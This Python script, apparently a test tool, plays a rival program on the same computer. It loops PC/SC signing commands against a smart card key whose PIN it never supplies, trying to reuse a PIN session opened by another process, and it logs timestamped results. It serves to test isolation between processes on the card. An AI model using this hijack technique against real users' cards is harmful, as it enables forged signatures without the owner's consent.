#!/usr/bin/python3
"""Another program of the same computer, which knows the card's layout and tries to sign with a key
whose PIN it never gives. Prints a line for each attempt until its standard input ends: when it was
over, by the monotonic clock, and `signed` or why not.

    rival.py READER IMAGE auth|sign connected|fresh

`connected` keeps one shared connection; `fresh` connects for each attempt.
"""

import json
import pathlib
import select
import sys
import time

from stack import pcsc

DIGEST_INFO = bytes.fromhex("3031300D060960864801650304020105000420") + bytes(32)


def key_of(path, role):
    """The command that goes to where the key lies, and the key's reference."""
    image = json.loads(pathlib.Path(path).read_text())
    (key,) = [key for key in image["keys"] if key["role"] == role]
    if "application" in image:
        way, name = 0x04, bytes.fromhex(image["application"]["name"])
    else:
        way, name = 0x08, bytes.fromhex(key["directory"])[2:]
    return bytes([0, 0xA4, way, 0x0C, len(name)]) + name, int(key["reference"], 16)


def sign(card, reference):
    for command in (
        bytes([0, 0x22, 0x41, 0xB6, 3, 0x84, 1, reference]),
        bytes([0, 0x2A, 0x9E, 0x9A, 0, 0, len(DIGEST_INFO)]) + DIGEST_INFO + bytes([0, 0]),
    ):
        _, status = card.transmit(command)
        if status != 0x9000:
            return f"{command[1]:02X} {status:04X}"
    return "signed"


def attempt(card, select, reference):
    """First where the card is, as a SELECT may end what somebody else's PIN opened."""
    said = sign(card, reference)
    if said != "signed":
        card.transmit(select)
        said = sign(card, reference)
    return said


class Rival:
    def __init__(self, reader, keeps_connection):
        self.context = pcsc.Context()
        self.reader = reader
        self.keeps_connection = keeps_connection
        self.card = None

    def attempt(self, select, reference):
        try:
            if self.card is None:
                self.card = pcsc.Card(self.context, self.reader)
            said = attempt(self.card, select, reference)
            if not self.keeps_connection:
                self.drop()
            return said
        except pcsc.PcscError as error:
            if error.code == 0x80100068:  # SCARD_W_RESET_CARD: connect anew, without a reset
                self.drop()
            return str(error)

    def drop(self):
        self.card.disconnect(pcsc.LEAVE_CARD)
        self.card = None


def main():
    reader, image, role, manner = sys.argv[1:]
    select_key, reference = key_of(image, role)
    rival = Rival(reader, manner == "connected")
    while not select.select([sys.stdin], [], [], 0)[0]:
        said = rival.attempt(select_key, reference)
        print(f"{time.monotonic():.6f} {said}", flush=True)


if __name__ == "__main__":
    main()
